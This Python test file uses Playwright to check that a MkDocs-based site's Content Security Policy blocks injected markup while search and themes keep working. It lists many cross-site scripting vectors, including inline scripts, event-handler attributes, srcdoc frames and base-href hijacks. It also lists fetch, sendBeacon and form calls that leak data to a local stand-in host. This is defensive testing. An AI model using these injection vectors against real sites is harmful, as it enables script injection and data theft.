"""The content policy at work: markup that got into a page all the same runs nothing and loads nothing, and the page still works.

Attached files are served in the worst way a host can: as scripts where a page wants a script, as styles where it wants one.
"""

from __future__ import annotations

import hashlib
import re
import shutil
import threading
from collections import Counter
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
from factbook.integrity import hash_of
from factbook.pages.policy import with_policy
from factbook.preview import with_notice, with_reload
from factbook.problems import Place, Problem
from mkdocs.livereload import LiveReloadServer
from playwright.sync_api import Browser, Page, Route, expect
from serving import served

WATCH = """
window.ran = [];
window.refused = [];
document.addEventListener('securitypolicyviolation', event => window.refused.push(event.effectiveDirective));
"""
EVIL = b"globalThis.ran?.push('attached'); globalThis.parent?.ran?.push('attached')"
ATTACKS: dict[str, tuple[str, str]] = {
    "an inline script": ("script-src-elem", "<script>ran.push(1)</script>"),
    "a script of another place": ("script-src-elem", '<script src="{other}evil.js"></script>'),
    "a script in its address": ("script-src-elem", '<script src="data:text/javascript,ran.push(1)"></script>'),
    "a module": ("script-src-elem", '<script type="module">ran.push(1)</script>'),
    "a handler of a picture": ("script-src-attr", '<img src="nothing" onerror="ran.push(1)" alt="">'),
    "a handler of a drawing": ("script-src-attr", '<svg onload="ran.push(1)"></svg>'),
    "a handler of details": ("script-src-attr", '<details open ontoggle="ran.push(1)">x</details>'),
    "a picture of another place": ("img-src", '<img src="{other}pixel.png" alt="">'),
    "a map of modules": ("script-src-elem", '<script type="importmap">{{"imports": {{"x": "./evil.txt"}}}}</script>'),
    **{
        f"an attached file as a script: {name}": ("script-src-elem", f'<script src="{name}"></script>')
        for name in ("evil.txt", "evil.json", "evil", "evil.csv", "evil.js", "sub/assets/evil.txt")
    },
    "an attached file as a module": ("script-src-elem", '<script type="module" src="evil.txt"></script>'),
    "an attached file with its own hash": (
        "script-src-elem",
        f'<script src="evil.txt" integrity="{hash_of(EVIL)}"></script>',
    ),
    "an attached file as a style": ("style-src-elem", '<link rel="stylesheet" href="evil.txt">'),
    "an attached file in a frame": ("frame-src", '<iframe src="evil.html"></iframe>'),
    "an attached file as an object": ("object-src", '<object data="evil.html"></object>'),
    "an attached file as an embed": ("object-src", '<embed src="evil.html">'),
    "a style of another place": ("style-src-elem", '<link rel="stylesheet" href="{other}evil.css">'),
    "a style in the page": (
        "style-src-elem",
        "<style>@font-face{{font-family:x;src:url({other}x.woff2)}}p{{font-family:x}}</style><p>x</p>",
    ),
    "a style of an element": ("style-src-attr", '<p style="position:fixed;inset:0">Not what we wrote.</p>'),
    "a frame": ("frame-src", '<iframe src="{other}"></iframe>'),
    "a frame with a page in it": (
        "script-src-elem",
        '<iframe srcdoc="&lt;script&gt;parent.ran.push(1)&lt;/script&gt;"></iframe>',
    ),
    "an object": ("object-src", '<object data="{other}x.swf"></object>'),
    "another base": ("base-uri", '<base href="{other}">'),
}
"""What is put into a page: the directive that refuses it, and the markup."""
CALLS: dict[str, tuple[str, str]] = {
    "eval": ("script-src", "eval('ran.push(1)')"),
    "a new function": ("script-src", "new Function('ran.push(1)')()"),
    "a text as a timer": ("script-src", "setTimeout('ran.push(1)')"),
    "an attached file as a module": ("script-src-elem", "import('./evil.txt')"),
    "an attached file as a worker": ("worker-src", "new Worker('evil.txt')"),
    "an attached file as a shared worker": ("worker-src", "new SharedWorker('evil.txt')"),
    "an attached file as a service worker": ("worker-src", "navigator.serviceWorker.register('evil.txt')"),
    "code in its address as a worker": ("worker-src", "new Worker('data:text/javascript,postMessage(1)')"),
    "a request elsewhere": ("connect-src", "fetch('{other}leak')"),
    "a beacon": ("connect-src", "navigator.sendBeacon('{other}leak')"),
    "a form": (
        "form-action",
        "document.body.insertAdjacentHTML('beforeend', '<form id=away action={other}form><input name=a></form>'); away.submit()",
    ),
}
"""What a script of the page is made to do, as if it could be led astray."""


@pytest.fixture(scope="module")
def other() -> Iterator[tuple[str, list[str]]]:
    """Another place on the web: its address, and what was asked of it."""
    asked: list[str] = []

    class Elsewhere(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self.path)
            self.send_response(200)
            self.send_header("Access-Control-Allow-Origin", "*")
            self.end_headers()
            self.wfile.write(b"ran.push('elsewhere')")

        do_POST = do_GET  # noqa: N815  # the name that the server calls

        def log_message(self, *_: object) -> None:
            pass

    with ThreadingHTTPServer(("127.0.0.1", 0), Elsewhere) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield f"http://127.0.0.1:{server.server_port}/", asked
        server.shutdown()


@pytest.fixture(scope="module")
def site(second_site: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The second story's, whose policy is that of any and whose home page is light: it is opened for each attack."""
    return Path(shutil.copytree(second_site, tmp_path_factory.mktemp("attacked") / "site"))


@pytest.fixture(scope="module")
def home(site: Path) -> Iterator[str]:
    """The site as GitHub Pages serves it: without a policy in its headers."""
    with served(site, policy="") as address:
        yield address


@contextmanager
def watched(browser: Browser) -> Iterator[Page]:
    """A page that notes what was refused and what ran."""
    context = browser.new_context(
        viewport={"width": 1280, "height": 900}, color_scheme="light", reduced_motion="reduce"
    )
    context.add_init_script(WATCH)
    context.route(re.compile(r"/(sub/assets/)?evil"), serve_as_wanted)
    yield context.new_page()
    context.close()


@pytest.fixture
def page(browser: Browser) -> Iterator[Page]:
    with watched(browser) as page:
        yield page


@pytest.fixture(scope="module")
def tab(browser: Browser) -> Iterator[Page]:
    """One page for all attacks: each opens a document of its own in it."""
    with watched(browser) as page:
        yield page


def serve_as_wanted(route: Route) -> None:
    if route.request.url.endswith(".html"):
        route.fulfill(body=f"<script>{EVIL.decode()}</script>", content_type="text/html")
    else:
        style = route.request.resource_type == "stylesheet"
        route.fulfill(
            body="body { display: none }" if style else EVIL, content_type="text/css" if style else "text/javascript"
        )


def infected(site: Path, markup: str) -> str:
    """The path of a copy of the home page with markup in its prose."""
    text = (site / "index.html").read_text(encoding="utf-8")
    spoilt = re.sub(r"(<article[^>]*>)", lambda match: match[1] + markup, text, count=1)
    assert spoilt != text
    name = f"spoilt-{hashlib.sha256(markup.encode()).hexdigest()}.html"  # a browser keeps what it has fetched
    (site / name).write_text(spoilt, encoding="utf-8")
    return name


def refused(page: Page, directive: str) -> None:
    page.wait_for_function("name => window.refused.some(each => each.startsWith(name))", arg=directive, timeout=5000)


@pytest.mark.parametrize("attack", ATTACKS)
def test_what_was_put_into_a_page_does_nothing(
    attack: str, tab: Page, site: Path, home: str, other: tuple[str, list[str]]
) -> None:
    directive, markup = ATTACKS[attack]
    elsewhere, asked = other
    asked.clear()
    tab.goto(home + infected(site, markup.replace("{{", "{").replace("}}", "}").replace("{other}", elsewhere)))
    if attack != "a frame with a page in it":  # whose own document is told of it
        refused(tab, directive)
    tab.evaluate("new Promise(done => setTimeout(done, 50))")
    assert tab.evaluate("window.ran") == []
    assert asked == []
    assert tab.evaluate("document.baseURI").startswith(home)
    assert tab.locator("h1").is_visible()


def test_a_link_that_is_a_script_does_nothing(page: Page, site: Path, home: str) -> None:
    page.goto(home + infected(site, '<p><a id="led" href="javascript:ran.push(1)">here</a></p>'))
    page.click("#led")
    refused(page, "script-src-elem")
    assert page.evaluate("window.ran") == []


@pytest.mark.parametrize("call", CALLS)
def test_a_script_of_the_page_cannot_be_led_astray(
    call: str, tab: Page, home: str, other: tuple[str, list[str]]
) -> None:
    """Run from a timer: what a debugger runs itself stands above the policy."""
    directive, code = CALLS[call]
    elsewhere, asked = other
    asked.clear()
    tab.goto(home)
    tab.evaluate("code => { setTimeout(new Function(code)) }", code.replace("{other}", elsewhere))
    refused(tab, directive)
    tab.wait_for_load_state("networkidle")
    assert tab.evaluate("window.ran") == [] and asked == []
    assert tab.url == home


def test_one_letter_more_stops_a_script_of_our_own(page: Page, site: Path, home: str) -> None:
    """A theme's own inline script is allowed by its hash, and by nothing else."""
    own = "<script>window.own = true</script>"
    text = (site / "index.html").read_text(encoding="utf-8")
    bare = re.sub(r'<meta http-equiv="Content-Security-Policy"[^>]*>| integrity="[^"]*"', "", text)
    assert bare != text
    scripts = {path.relative_to(site).as_posix(): hash_of(path.read_bytes()) for path in site.rglob("*.js")}
    allowed = with_policy(bare.replace("</article>", f"{own}</article>"), scripts=scripts)
    (site / "own.html").write_text(allowed, encoding="utf-8")
    page.goto(f"{home}own.html")
    assert page.evaluate("window.own") is True
    assert page.evaluate("window.refused") == []
    (site / "spoilt.html").write_text(allowed.replace(own, own.replace("= true", "= true ")), encoding="utf-8")
    page.goto(f"{home}spoilt.html")
    refused(page, "script-src-elem")
    assert page.evaluate("window.own") is None


def test_the_page_works_beside_what_is_refused(page: Page, grown_site: Path, tmp_path: Path) -> None:
    """Search opens and finds, and the colours change: under the policy, and with an attack in the page."""
    site = Path(shutil.copytree(grown_site, tmp_path / "site"))
    with served(site, policy="") as home:
        page.goto(home + infected(site, "<script>ran.push(1)</script>"))
        before = page.evaluate("document.body.dataset.mdColorScheme")
        page.get_by_role("button", name="Switch to dark").click()
        expect(page.locator("body")).not_to_have_attribute("data-md-color-scheme", before)
        page.keyboard.press("/")
        page.locator("[data-md-component=search-query]").press_sequentially("balloons")
        expect(page.locator(".md-search-result__item").first).to_be_visible(timeout=20_000)
        assert page.evaluate("window.ran") == []
        assert page.evaluate("window.refused") == ["script-src-elem"]


def test_one_letter_more_stops_a_file_of_our_own(page: Page, home: str) -> None:
    changed: list[str] = []

    def longer(route: Route) -> None:
        changed.append(route.request.url)
        route.fulfill(body=f"{route.fetch().text()} ", content_type="text/javascript")

    page.route("**/assets/site.js", longer)
    page.goto(home)
    assert changed and page.locator("html.no-js").count() == 1


def test_the_theme_alone_brings_styles_and_workers_wherever_the_site_lies(
    browser: Browser, site: Path, second_site: Path
) -> None:
    with served(second_site, below="a, b;c/repo/", policy="") as address:
        tab = browser.new_page()
        tab.add_init_script(WATCH)
        tab.goto(f"{address}counts/visitors/".replace(" ", "%20"))
        assert tab.evaluate("document.fonts.ready.then(all => [...all].some(each => each.status === 'loaded'))")
        tab.keyboard.press("/")
        tab.locator("[data-md-component=search-query]").press_sequentially("visitors")
        expect(tab.locator(".md-search-result__item").first).to_be_visible(timeout=20_000)
        assert tab.evaluate("window.refused") == []
        tab.close()


def test_no_sort_of_page_is_refused_anything(page: Page, second_site: Path) -> None:
    """One page of each folder, lists, pages of facts and frames among them: with whatever a reader can open on it."""
    told: list[str] = []
    page.on("console", lambda message: told.append(message.text) if message.type in ("error", "warning") else None)
    names = [path.relative_to(second_site).as_posix() for path in second_site.rglob("index.html")]
    kinds = {(name.split("/")[0], name.count("/"), "differ-" in name): name for name in sorted(names)}
    opened = Counter[str]()
    with served(second_site, policy="") as home:
        for name in sorted({*kinds.values(), "404.html", "index.html"}):
            page.goto(home + name.removesuffix("index.html"))
            for chart in page.locator(".chart-light select").all():
                chart.select_option(index=1)
                opened["charts"] += 1
            for select in page.locator("form.facets select").all():
                select.select_option(index=1)
                opened["filters"] += 1
            if (cards := page.locator("button[popovertarget]")).count():
                cards.first.click()
                page.keyboard.press("Escape")
                opened["cards"] += 1
            if page.locator("form[name=search]").count() and opened["searches"] < 3:
                page.keyboard.press("/")
                page.locator("[data-md-component=search-query]").press_sequentially("visitors")
                expect(page.locator(".md-search-result__item").first).to_be_visible(timeout=20_000)
                opened["searches"] += 1
            opened["pages"] += 1
            assert page.evaluate("window.refused") == [], name
    assert told == []
    assert opened["pages"] > 10 and opened["searches"] == 3
    assert opened["charts"] and min(opened["cards"], opened["filters"]) > 1


def test_a_live_preview_has_the_policy_and_still_loads_pages_again(
    page: Page, second_site: Path, tmp_path: Path
) -> None:
    """MkDocs's own server and script, with the notice of a broken fact on the page."""
    wrong = Problem(Place("data/x.yml", 3, 5), "amount", "must be an amount, found 'many'")
    watched = tmp_path / "watched"
    watched.mkdir()
    with ThreadingHTTPServer(("127.0.0.1", 0), BaseHTTPRequestHandler) as free:
        port = free.server_port
    server = LiveReloadServer(lambda: None, "127.0.0.1", port, str(second_site), mount_path="/", polling_interval=0.1)
    server.watch(str(watched))
    app = server.get_app()
    assert app
    server.set_app(with_notice(with_reload(app), lambda: [wrong]))
    threading.Thread(target=server.serve, daemon=True).start()
    try:
        with page.expect_request("**/livereload/**"):
            page.goto(f"http://127.0.0.1:{port}/counts/visitors/")
        expect(page.get_by_role("alert")).to_contain_text("data/x.yml:3:5")
        assert "'unsafe-inline'" not in page.content() and "script-src 'sha256-" in page.content()
        with page.expect_event("load", timeout=20_000):
            (watched / "fact.yml").write_text("x", encoding="utf-8")
        assert page.evaluate("window.refused") == []
    finally:
        page.goto("about:blank")
        server.shutdown()
